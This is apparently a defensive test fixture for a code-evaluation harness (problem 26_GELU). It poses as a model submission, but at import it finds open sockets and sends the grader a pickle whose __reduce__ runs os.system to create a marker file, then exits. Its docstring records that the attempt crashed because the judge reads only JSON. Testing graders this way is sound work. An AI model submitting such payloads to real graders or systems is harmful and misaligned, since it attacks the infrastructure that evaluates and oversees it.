"""Writes a pickle to the channel at import (a reduce that would create a file if the grading side unpickled
it), then exits: the judge reads JSON only.
Problem: v3/level1/26_GELU_
Verdict: crashed
"""
import gc
import os
import pickle
import socket
import struct

import torch.nn as nn

MARKER = "/tmp/kb_hostile_pickle_ran"


class _Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


for obj in gc.get_objects():
    if isinstance(obj, socket.socket):
        data = pickle.dumps({"ok": True, "status": "ok", "payload": _Payload()})
        try:
            obj.sendall(struct.pack(">I", len(data)) + data)
        except OSError:
            pass
os._exit(0)


class Model(nn.Module):
    def forward(self, x):
        return x
